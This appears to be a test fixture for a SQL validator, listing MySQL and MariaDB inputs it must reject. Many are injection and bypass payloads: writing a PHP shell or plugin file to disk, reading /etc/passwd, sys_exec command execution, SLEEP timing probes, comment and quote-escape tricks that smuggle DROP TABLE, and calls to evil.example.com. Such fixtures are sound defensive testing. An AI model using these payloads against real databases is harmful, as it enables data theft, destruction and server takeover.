--8<-- SYNC-1304 into outfile
SELECT * FROM products INTO OUTFILE '/tmp/x'
--8<-- SYNC-1304 into dumpfile
SELECT 'x' INTO DUMPFILE '/tmp/x'
--8<-- SYNC-1304 into variable
SELECT 1 INTO @x
--8<-- SYNC-1304 into outfile in a subquery
SELECT * FROM (SELECT 1 INTO OUTFILE '/tmp/x') q
--8<-- SYNC-1304 into outfile behind a union
SELECT 1 UNION SELECT 2 INTO OUTFILE '/tmp/x'
--8<-- SYNC-1304 into outfile behind a hash comment
SELECT 1 # x
INTO OUTFILE '/tmp/x'
--8<-- SYNC-1306 lock in share mode
SELECT * FROM products LOCK IN SHARE MODE
--8<-- SYNC-1306 for update nowait
SELECT * FROM products FOR UPDATE NOWAIT
--8<-- SYNC-1306 for share skip locked
SELECT * FROM products FOR SHARE SKIP LOCKED
--8<-- SYNC-1310 executable comment
SELECT 1 /*! INTO OUTFILE '/tmp/x' */
--8<-- SYNC-1310 executable comment with a version
SELECT 1 /*!50000 INTO OUTFILE '/tmp/x' */
--8<-- SYNC-1310 executable comment of MariaDB
SELECT 1 /*M! INTO OUTFILE '/tmp/x' */
--8<-- SYNC-1310 executable comment of MariaDB with a version
SELECT 1 /*M!100100 ; DROP TABLE products */
--8<-- SYNC-1310 executable comment around a word
SELECT * /*!INTO*/ OUTFILE '/tmp/x'
--8<-- SYNC-1310 executable comment at the start
/*!DELETE*/ FROM products
--8<-- SYNC-1310 two minuses without a blank
SELECT 1 --1
--8<-- SYNC-1310 backslash before a quote
SELECT 'a\' ; DROP TABLE products; -- '
--8<-- SYNC-1310 backslash before a double quote
SELECT "a\" ; DROP TABLE products; -- "
--8<-- SYNC-1310 string of one backslash
SELECT '\'
--8<-- SYNC-1310 three backslashes
SELECT 'a\\\' ; DROP TABLE products -- '
--8<-- SYNC-1303 two backslashes end it
SELECT 'a\\'; DROP TABLE products -- '
--8<-- SYNC-1305 sleep
SELECT SLEEP(10)
--8<-- SYNC-1305 sleep with a blank
SELECT sleep (10)
--8<-- SYNC-1305 sleep in backticks
SELECT `sleep`(10)
--8<-- SYNC-1305 sleep in double quotes, a name under ANSI_QUOTES
SELECT "sleep"(10)
--8<-- SYNC-1305 sleep behind a comment
SELECT sleep/**/(10)
--8<-- SYNC-1305 sleep in where
SELECT * FROM products WHERE id = 1 AND (SELECT 1 FROM (SELECT SLEEP(5)) x)
--8<-- SYNC-1305 benchmark
SELECT BENCHMARK(1000000000, SHA2('x', 512))
--8<-- SYNC-1305 get_lock
SELECT GET_LOCK('x', 10)
--8<-- SYNC-1305 release_all_locks
SELECT RELEASE_ALL_LOCKS()
--8<-- SYNC-1305 load_file
SELECT LOAD_FILE('/etc/passwd')
--8<-- SYNC-1305 load_file in a cte
WITH x AS (SELECT LOAD_FILE('/etc/passwd') AS f) SELECT f FROM x
--8<-- SYNC-1305 sys_exec
SELECT sys_exec('id')
--8<-- SYNC-1305 sys_eval
SELECT sys_eval('id')
--8<-- SYNC-1305 lib_mysqludf
SELECT lib_mysqludf_sys_info()
--8<-- SYNC-1305 master_pos_wait
SELECT MASTER_POS_WAIT('x', 4)
--8<-- SYNC-1305 wait for gtid
SELECT WAIT_FOR_EXECUTED_GTID_SET('x')
--8<-- SYNC-1305 nextval
SELECT NEXTVAL(s)
--8<-- SYNC-1305 setval
SELECT SETVAL(s, 100)
--8<-- SYNC-1305 nextval as MariaDB's oracle mode writes it
SELECT s.nextval
--8<-- SYNC-1305 last_insert_id sets the session's
SELECT LAST_INSERT_ID(7)
--8<-- SYNC-1305 keyring
SELECT keyring_key_remove('x')
--8<-- SYNC-1305 group replication
SELECT group_replication_set_as_primary('x')
--8<-- SYNC-1305 asynchronous fail-over
SELECT asynchronous_connection_failover_delete_source('a', 'b', 3306, '')
--8<-- SYNC-1304 procedure analyse
SELECT * FROM products PROCEDURE ANALYSE()
--8<-- SYNC-1309 assignment
SELECT @x := 1
--8<-- SYNC-1309 global variable
SELECT @@global.read_only
--8<-- SYNC-1309 question mark
SELECT ?
--8<-- SYNC-1309 variable in backticks
SELECT @`x`
--8<-- SYNC-1302 set
SET GLOBAL read_only = 0
--8<-- SYNC-1302 do
DO SLEEP(10)
--8<-- SYNC-1302 load data
LOAD DATA INFILE '/etc/passwd' INTO TABLE products
--8<-- SYNC-1302 handler
HANDLER products OPEN
--8<-- SYNC-1302 call
CALL p()
--8<-- SYNC-1302 show
SHOW GRANTS
--8<-- SYNC-1302 table
TABLE products INTO OUTFILE '/tmp/x'
--8<-- SYNC-1301 ODBC escape
SELECT {fn SLEEP(10)}
--8<-- SYNC-1303 delimiter is not a statement
SELECT 1; DELIMITER //
--8<-- SYNC-1301 open backtick
SELECT `a FROM products
--8<-- SYNC-1304 into outfile with lines
SELECT * FROM products INTO OUTFILE '/var/www/x.php' LINES TERMINATED BY '<?php'
--8<-- SYNC-1304 into outfile in the middle
SELECT name INTO OUTFILE '/tmp/x' FIELDS TERMINATED BY ',' FROM products
--8<-- SYNC-1304 into outfile behind a comment without blanks
SELECT 1/**/INTO/**/OUTFILE/**/'/tmp/x'
--8<-- SYNC-1304 into outfile behind limit
SELECT * FROM products LIMIT 1 INTO OUTFILE '/tmp/x'
--8<-- SYNC-1304 into outfile in a cte
WITH x AS (SELECT 1 INTO OUTFILE '/tmp/x') SELECT * FROM x
--8<-- SYNC-1304 into dumpfile of a plugin
SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'
--8<-- SYNC-1304 into several variables
SELECT id, name INTO @a, @b FROM products LIMIT 1
--8<-- SYNC-1304 into a local variable
SELECT id INTO a FROM products LIMIT 1
--8<-- SYNC-1304 into outfile with a line break
SELECT 1
INTO
OUTFILE '/tmp/x'
--8<-- SYNC-1306 for update of a table
SELECT * FROM products p FOR UPDATE OF p
--8<-- SYNC-1306 for update wait
SELECT * FROM products FOR UPDATE WAIT 5
--8<-- SYNC-1306 for update in a cte
WITH x AS (SELECT * FROM products FOR UPDATE) SELECT * FROM x
--8<-- SYNC-1306 for update in a union
SELECT id FROM products UNION (SELECT id FROM products FOR UPDATE)
--8<-- SYNC-1306 for update behind a comment
SELECT * FROM products FOR/**/UPDATE
--8<-- SYNC-1306 lock in share mode in a subquery
SELECT * FROM (SELECT * FROM products LOCK IN SHARE MODE) x
--8<-- SYNC-1306 lock in share mode behind comments
SELECT * FROM products LOCK/**/IN/**/SHARE/**/MODE
--8<-- SYNC-1310 executable comment with six digits
SELECT 1 /*!080000 INTO OUTFILE '/tmp/x' */
--8<-- SYNC-1310 executable comment with a union
SELECT 1 /*!50000UNION*/ SELECT password FROM users
--8<-- SYNC-1310 executable comment that holds a semicolon
SELECT 1 /*!; DROP TABLE products */
--8<-- SYNC-1304 executable comment in a plain one
SELECT 1 /* /*! INTO OUTFILE '/tmp/x' */ INTO OUTFILE '/tmp/y'
--8<-- SYNC-1310 executable comment left open
SELECT 1 /*!50000
--8<-- SYNC-1310 executable comment between a function and its parenthesis
SELECT sleep/*! */(5)
--8<-- SYNC-1310 executable comment of MariaDB in lower case
SELECT 1 /*m! INTO OUTFILE '/tmp/x' */
--8<-- SYNC-1310 executable comment that closes a parenthesis
SELECT * FROM products /*!) q; DROP TABLE products; -- */
--8<-- SYNC-1310 minus minus that is arithmetic to the server
SELECT 1--1 INTO OUTFILE '/tmp/x'
--8<-- SYNC-1303 hash comment hides no second line
SELECT 1 # )
; DROP TABLE products
--8<-- SYNC-1303 line comment ends at a line feed
SELECT 1 -- x
; DROP TABLE products
--8<-- SYNC-1305 sleep in lower case with a line break
SELECT sleep
(5)
--8<-- SYNC-1305 sleep in order by
SELECT * FROM products ORDER BY SLEEP(1)
--8<-- SYNC-1305 sleep in a join
SELECT * FROM products p JOIN products q ON SLEEP(1) = 0
--8<-- SYNC-1305 sleep in a case
SELECT CASE WHEN 1 = 1 THEN SLEEP(10) END
--8<-- SYNC-1310 sleep with a full-width letter
SELECT ｓLEEP(10)
--8<-- SYNC-1305 sleep with an accent
SELECT SLÉEP(10)
--8<-- SYNC-1305 sleep with a database
SELECT mysql.sleep(10)
--8<-- SYNC-1305 benchmark in a subquery
SELECT (SELECT BENCHMARK(100000000, MD5('x')))
--8<-- SYNC-1305 get_lock without end
SELECT GET_LOCK('x', -1)
--8<-- SYNC-1305 release_lock
SELECT RELEASE_LOCK('x')
--8<-- SYNC-1305 load_file in hexadecimal
SELECT LOAD_FILE(0x2f6574632f706173737764)
--8<-- SYNC-1305 load_file in backticks
SELECT `LOAD_FILE`('/etc/passwd')
--8<-- SYNC-1305 load_file of a network share
SELECT LOAD_FILE('\\\\evil.example.com\\x')
--8<-- SYNC-1305 load_file in a concatenation
SELECT CONCAT(name, LOAD_FILE('/etc/passwd')) FROM products
--8<-- SYNC-1305 sys_get
SELECT sys_get('PATH')
--8<-- SYNC-1305 sys_bineval
SELECT sys_bineval('x')
--8<-- SYNC-1305 http request
SELECT http_get('http://evil.example.com')
--8<-- SYNC-1305 gtid wait of MariaDB
SELECT MASTER_GTID_WAIT('1-1-1', 100)
--8<-- SYNC-1305 sequence in standard words
SELECT NEXT VALUE FOR s FROM products
--8<-- SYNC-1305 remote SQL of spider
SELECT SPIDER_DIRECT_SQL('DELETE FROM products', '', 'srv "x"')
--8<-- SYNC-1305 remote SQL of spider in the background
SELECT spider_bg_direct_sql('DELETE FROM products', '', 'srv "x"')
--8<-- SYNC-1305 copy of tables by spider
SELECT spider_copy_tables('products', '0', '1')
--8<-- SYNC-1305 command of mroonga
SELECT mroonga_command('table_remove x')
--8<-- SYNC-1305 firewall mode
SELECT set_firewall_mode('x', 'OFF')
--8<-- SYNC-1305 dictionary from a file
SELECT gen_dictionary_load('/etc/passwd', 'x')
--8<-- SYNC-1305 dictionary dropped
SELECT gen_dictionary_drop('x')
--8<-- SYNC-1305 masking term
SELECT masking_dictionary_term_add('d', 'x')
--8<-- SYNC-1305 rotation of the key ring
SELECT rotate_system_key('percona_binlog')
--8<-- SYNC-1305 audit log
SELECT audit_log_filter_remove_filter('x')
--8<-- SYNC-1305 version tokens
SELECT version_tokens_set('x=y')
--8<-- SYNC-1305 query attribute
SELECT mysql_query_attribute_string('x')
--8<-- SYNC-1304 procedure analyse with arguments
SELECT * FROM products PROCEDURE ANALYSE(10, 2000)
--8<-- SYNC-1309 assignment in where
SELECT id FROM products WHERE (@a := id) > 0
--8<-- SYNC-1309 assignment without blanks
SELECT @a:=1
--8<-- SYNC-1309 session variable
SELECT @@session.sql_mode
--8<-- SYNC-1309 variable in quotes
SELECT @'x'
--8<-- SYNC-1309 the engine's own parameter
SELECT * FROM products WHERE id > @k0
--8<-- SYNC-1302 prepare
PREPARE s FROM 'DELETE FROM products'
--8<-- SYNC-1302 execute immediate
EXECUTE IMMEDIATE 'DELETE FROM products'
--8<-- SYNC-1302 begin not atomic
BEGIN NOT ATOMIC DELETE FROM products; END
--8<-- SYNC-1302 kill
KILL 1
--8<-- SYNC-1302 flush
FLUSH TABLES WITH READ LOCK
--8<-- SYNC-1302 lock tables
LOCK TABLES products WRITE
--8<-- SYNC-1302 rename
RENAME TABLE products TO x
--8<-- SYNC-1302 reset
RESET MASTER
--8<-- SYNC-1302 install a plugin
INSTALL PLUGIN x SONAME 'x.so'
--8<-- SYNC-1302 create a function of a library
CREATE FUNCTION sys_exec RETURNS int SONAME 'udf.so'
--8<-- SYNC-1302 start transaction
START TRANSACTION READ WRITE
--8<-- SYNC-1302 set transaction
SET SESSION TRANSACTION READ WRITE
--8<-- SYNC-1302 describe
DESCRIBE products
--8<-- SYNC-1302 use
USE mysql
--8<-- SYNC-1302 change master
CHANGE MASTER TO MASTER_HOST = 'evil.example.com'
--8<-- SYNC-1302 shutdown
SHUTDOWN
--8<-- SYNC-1302 XA
XA START 'x'
--8<-- SYNC-1302 delete of several tables
DELETE p FROM products p JOIN brands b ON b.id = p.id
--8<-- SYNC-1302 insert on duplicate
INSERT INTO products (id) VALUES (1) ON DUPLICATE KEY UPDATE id = 2
--8<-- SYNC-1302 replace
REPLACE INTO products VALUES (1)
--8<-- SYNC-1301 date escape of ODBC
SELECT {d '2024-01-01'}
--8<-- SYNC-1301 escape of ODBC that hides a call
SELECT {x sleep(10)}
--8<-- SYNC-1301 NULL written with a backslash
SELECT \N FROM products
--8<-- SYNC-1301 string in double quotes left open
SELECT "a FROM products
--8<-- SYNC-1303 semicolon behind a string in double quotes
SELECT "a'b"; DROP TABLE products; -- '"
--8<-- SYNC-1310 backslash before the second of two quotes
SELECT 'a''\' ; DROP TABLE products -- '
--8<-- SYNC-1310 charset introducer before a backslash and a quote
SELECT _gbk'¿\' ; DROP TABLE products -- '
--8<-- SYNC-1310 national string with a backslash before its quote
SELECT N'a\' ; DROP TABLE products -- '
--8<-- SYNC-1301 curly quotes
SELECT ’a’ ; DROP TABLE products
--8<-- SYNC-1301 full-width semicolon in place of one
SELECT 1 ；DELETE FROM products
--8<-- SYNC-1307 leaves the wrapper with a hash
SELECT * FROM products) q; DELETE FROM products #
--8<-- SYNC-1307 leaves the wrapper with a union and a file
SELECT * FROM products) q UNION SELECT LOAD_FILE('/etc/passwd') #
